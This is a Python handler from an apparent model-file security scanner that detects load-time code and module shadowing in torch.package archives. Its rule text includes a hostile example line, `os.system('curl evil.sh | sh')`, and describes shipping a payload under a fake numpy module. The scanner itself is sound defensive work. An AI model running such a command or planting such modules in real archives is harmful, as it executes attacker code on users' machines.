"""torch.package archives: the `.py` members that `PackageImporter` executes, judged as code.

`torch.package.PackageExporter` writes a zip with `<root>/.data/extern_modules` and the packaged modules
as `.py` members. `PackageImporter` compiles and runs a member when it is imported, in particular when
`load_pickle` resolves a global: its `find_class` looks in the package first, so a member named
`numpy/core/multiarray.py` *is* `numpy.core.multiarray` for the archive's pickles, whatever the name
promises. The zip walker still scans every member (pickles as pickles); this handler reads the archive
as a whole: the shipped source with `core/pysource.analyse_source` (import-time code, and the methods a
pickle calls while rebuilding: constructors, `__setstate__`, `__reduce__`), and the pickles' globals that
resolve to shipped modules named like packages the catalogue knows.
"""

from __future__ import annotations

import pickletools
import zipfile
from collections.abc import Generator, Iterator

from modelshield.core import callables, pysource
from modelshield.core.findings import Finding
from modelshield.core.handler import Context, Handler
from modelshield.core.rules import Category, Rule, Severity
from modelshield.core.source import Source

SHIPPED_CODE = Rule(
    id="PKG001",
    title="torch.package ships code that acts at load",
    severity=Severity.CRITICAL,
    category=Category.LOAD_TIME_CODE,
    overview="A `.py` member of a torch.package archive runs a command, dynamic code, network access or file "
    "writes at import time (module level, class bodies, decorators, default values) or in a method that "
    "rebuilding a pickled object calls (`__init__`, `__setstate__`, `__reduce__`).",
    attack="`PackageImporter` executes the member as soon as `load_pickle` resolves a global in it, or when "
    "the user calls `import_module`: no pickle opcode is needed beyond naming a class of the shipped module.",
    impact="Arbitrary code with the rights of the loading process.",
    remediation="Do not load the package. Rebuild the model from source you trust and save its weights in a "
    "weights-only format.",
    example="`packaged/net.py` beginning with `import os; os.system('curl evil.sh | sh')`, and `model.pkl` "
    "naming `packaged.net.PackagedNet`.",
)
SHADOWED_MODULE = Rule(
    id="PKG002",
    title="torch.package ships a module named like a known package",
    severity=Severity.HIGH,
    category=Category.LOAD_TIME_CODE,
    overview="A pickle of the archive names a global whose module the archive ships itself, under the name "
    "of a package the scanner's catalogue knows (`numpy`, `torch`, `collections`, ...). `PackageImporter` "
    "resolves it to the shipped source, not to the installed package, so the name proves nothing.",
    attack="The attacker ships `numpy/core/multiarray.py` with a payload and pickles an ordinary array: "
    "`numpy.core.multiarray._reconstruct` looks trusted, but the archive's own code runs.",
    impact="Whatever the shipped module does (see PKG001 for what was found in it) runs at load.",
    remediation="Do not load the package; an exporter never needs to ship code under another package's name.",
    example="`shadows_numpy/numpy/core/multiarray.py` in the archive, `model.pkl` naming "
    "`numpy.core.multiarray._reconstruct`.",
)
UNREAD_MEMBER = Rule(
    id="PKG003",
    title="torch.package member not analysed",
    severity=Severity.MEDIUM,
    category=Category.LOAD_TIME_CODE,
    overview="A `.py` or pickle member of a torch.package archive is larger than the analysis bound or "
    "could not be read, so the code it carries (or the globals it resolves) was not judged.",
    attack="An attacker pads a shipped module past the bound so that its payload is never parsed.",
    impact="Unknown: the member was not analysed.",
    remediation="Review the member by hand before loading the package.",
)

MAX_MEMBER = 1 << 20
"""Bytes of one shipped module or pickle read for analysis."""
_MARKER = ".data/extern_modules"
#: Methods a pickle makes run while it rebuilds an object of a shipped class.
_REBUILD = pysource.CONSTRUCTORS | {"__setstate__", "__reduce__", "__reduce_ex__", "__getattr__", "__del__"}
_STRINGS = frozenset({"SHORT_BINUNICODE", "BINUNICODE", "UNICODE", "BINUNICODE8", "STRING", "BINSTRING"})


def _root(names: list[str]) -> str | None:
    """The archive's root folder (`<root>/.data/extern_modules`), or None if it is not a torch.package."""
    for name in names:
        if name.endswith("/" + _MARKER) and name.count("/") == 2:
            return name[: -len(_MARKER)]
    return None


def _module(member: str, root: str) -> str | None:
    """`<root>/a/b.py` and `<root>/a/b/__init__.py` are module `a.b` for the importer."""
    if not member.startswith(root) or not member.endswith(".py") or member.startswith(root + ".data/"):
        return None
    path = member[len(root) : -3].removesuffix("/__init__")
    return path.replace("/", ".") or None


def _globals(data: bytes) -> Iterator[tuple[str, str]]:
    """(module, name) of every GLOBAL and STACK_GLOBAL (its two last strings), read without unpickling."""
    strings: list[str] = []
    memo: dict[int, str] = {}
    try:
        for op, arg, _ in pickletools.genops(data):
            if op.name == "GLOBAL" and isinstance(arg, str):
                module, _, name = arg.partition(" ")
                yield module, name
            elif op.name in _STRINGS and isinstance(arg, str):
                strings.append(arg)
            elif op.name in ("BINPUT", "LONG_BINPUT", "PUT") and strings:
                memo[int(arg)] = strings[-1]  # type: ignore[arg-type]
            elif op.name == "MEMOIZE" and strings:
                memo[len(memo)] = strings[-1]
            elif op.name in ("BINGET", "LONG_BINGET", "GET") and int(arg) in memo:  # type: ignore[arg-type]
                strings.append(memo[int(arg)])  # type: ignore[arg-type]
            elif op.name == "STACK_GLOBAL" and len(strings) >= 2:
                yield strings[-2], strings[-1]
    except (ValueError, KeyError, TypeError):
        return  # the pickle analyser reports the malformed stream


class TorchPackageHandler(Handler):
    name = "torch-package"
    label = "torch.package archive"
    rules = (SHIPPED_CODE, SHADOWED_MODULE, UNREAD_MEMBER)
    companion = True

    def detect(self, source: Source) -> bool:
        if not source.head(4).startswith(b"PK\x03\x04"):
            return False
        try:
            with zipfile.ZipFile(source.stream()) as archive:
                return _root(archive.namelist()) is not None
        except (zipfile.BadZipFile, OSError, ValueError, EOFError):
            return False

    def scan(self, source: Source, ctx: Context) -> Iterator[Finding]:
        with zipfile.ZipFile(source.stream()) as archive:
            infos = archive.infolist()
            root = _root([i.filename for i in infos]) or ""
            shipped = {m: i for i in infos if (m := _module(i.filename, root))}
            for module, info in sorted(shipped.items()):
                data = yield from self._read(archive, info, ctx)
                if data is None:
                    continue
                problems, _ = pysource.analyse_source(data.decode("utf-8", "replace"), info.filename, _REBUILD)
                for problem in problems:
                    evidence = f"module {module!r}: line {problem.line}: {problem.text}"
                    yield ctx.finding(SHIPPED_CODE, evidence, severity=problem.severity, member=info.filename)
            for info in infos:
                if not info.filename.endswith(".pkl"):
                    continue
                data = yield from self._read(archive, info, ctx)
                for module, name in sorted(set(_globals(data or b""))):
                    owner = next((m for m in (module, module.rpartition(".")[0]) if m in shipped), None)
                    known = callables.judge(module, name).kind is not callables.Kind.UNKNOWN
                    if owner is not None and (known or callables.judge(owner, "").kind is not callables.Kind.UNKNOWN):
                        evidence = (
                            f"global {module}.{name} resolves to the archive's own {shipped[owner].filename}, "
                            f"not to the installed {module.partition('.')[0]}"
                        )
                        yield ctx.finding(SHADOWED_MODULE, evidence, member=info.filename)

    @staticmethod
    def _read(archive: zipfile.ZipFile, info: zipfile.ZipInfo, ctx: Context) -> Generator[Finding, None, bytes | None]:
        """A member's bytes within the bound; a finding (and None) past it or when it cannot be read."""
        if info.file_size > MAX_MEMBER:
            yield ctx.finding(UNREAD_MEMBER, f"{info.file_size} bytes, over {MAX_MEMBER}", member=info.filename)
            return None
        try:
            with archive.open(info) as member:
                return member.read(MAX_MEMBER + 1)[:MAX_MEMBER]
        except (zipfile.BadZipFile, OSError, ValueError, EOFError, NotImplementedError) as exc:
            yield ctx.finding(UNREAD_MEMBER, f"could not be read ({type(exc).__name__})", member=info.filename)
            return None
